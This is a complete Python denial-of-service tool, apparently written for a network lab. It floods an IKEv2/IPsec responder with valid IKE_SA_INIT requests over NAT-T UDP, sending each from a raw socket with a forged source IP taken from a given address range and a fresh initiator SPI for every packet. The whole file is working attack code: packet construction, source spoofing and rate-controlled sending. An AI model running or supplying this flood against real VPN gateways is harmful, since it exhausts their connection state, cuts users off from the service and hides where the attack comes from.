#!/usr/bin/env python3
"""IKE_SA_INIT flood for the network lab: requests a responder would accept (RFC 7296 §1.2: SA with AES-GCM-16/256,
PRF HMAC-SHA2-256 and Curve25519, KE, Nonce; a fresh initiator SPI each), in UDP to the tunnel port behind the 4-octet
non-ESP marker (RFC 3948 §2.2), each from a source address forged in SOURCES (one source port per address, so a NAT
keeps one entry per address). Raw IPv4 socket (root). Sends RATE datagrams a second for at most SECONDS; on SIGTERM or
at the end prints "sent N in S s".

Usage: ike-flood.py TARGET PORT RATE SECONDS SOURCES_CIDR
"""
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time


def transform(last, kind, ident, attribute=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, ident) + attribute


def ike_sa_init():
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 256))  # ENCR AES-GCM-16, Key Length 256
                  + transform(False, 2, 5)                                  # PRF HMAC-SHA2-256
                  + transform(True, 4, 31))                                 # KE Curve25519
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal           # next: KE
    key = os.urandom(32)
    ke = struct.pack("!BBHHH", 40, 0, 8 + len(key), 31, 0) + key            # next: Nonce
    nonce = os.urandom(32)
    nonce_payload = struct.pack("!BBH", 0, 0, 4 + len(nonce)) + nonce
    body = sa + ke + nonce_payload
    # SPIi (set per datagram), SPIr 0, next SA, version 2.0, IKE_SA_INIT, Initiator flag, message ID 0, length
    return bytearray(struct.pack("!QQBBBBII", 0, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body)


def main():
    target, port, rate, seconds, sources = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), \
        ipaddress.ip_network(sys.argv[5])
    hosts = list(sources.hosts())
    source_ports = [random.randrange(1024, 65536) for _ in hosts]
    templates = [ike_sa_init() for _ in range(64)]
    udp_length = 8 + 4 + len(templates[0])
    destination = socket.inet_aton(target)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    start = time.monotonic()
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))
    batch = max(1, rate // 100)
    while not stopping and time.monotonic() - start < seconds:
        for _ in range(batch):
            i = random.randrange(len(hosts))
            ike = templates[sent % len(templates)]
            ike[0:8] = os.urandom(8)
            # IPv4: total length, ID and checksum are filled in by the kernel (raw(7), IPPROTO_RAW).
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                             hosts[i].packed, destination)
            udp = struct.pack("!HHHH", source_ports[i], port, udp_length, 0)
            raw.sendto(ip + udp + b"\0\0\0\0" + ike, (target, 0))
            sent += 1
        behind = sent / rate - (time.monotonic() - start)
        if behind > 0:
            time.sleep(behind)
    print("sent %d in %.1f s" % (sent, time.monotonic() - start), flush=True)


if __name__ == "__main__":
    main()
